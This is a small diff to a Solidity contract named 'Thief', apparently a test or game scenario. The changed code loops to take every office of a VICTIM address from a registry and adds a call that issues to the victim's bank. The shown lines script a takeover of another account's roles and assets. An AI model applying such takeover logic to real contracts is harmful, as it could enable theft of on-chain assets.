@@ -63,6 +63,7 @@ abstract contract Thief is JointMenu {
         for (uint8 office = 1; office < OFFICES; ++office) {
             _callAll(address(registry), abi.encodeCall(registry.takeOffice, (VICTIM, Office(office))));
         }
+        _callAll(address(victims), abi.encodeCall(victims.issue, (_bank(VICTIM), 1)));
         _check();
     }
 
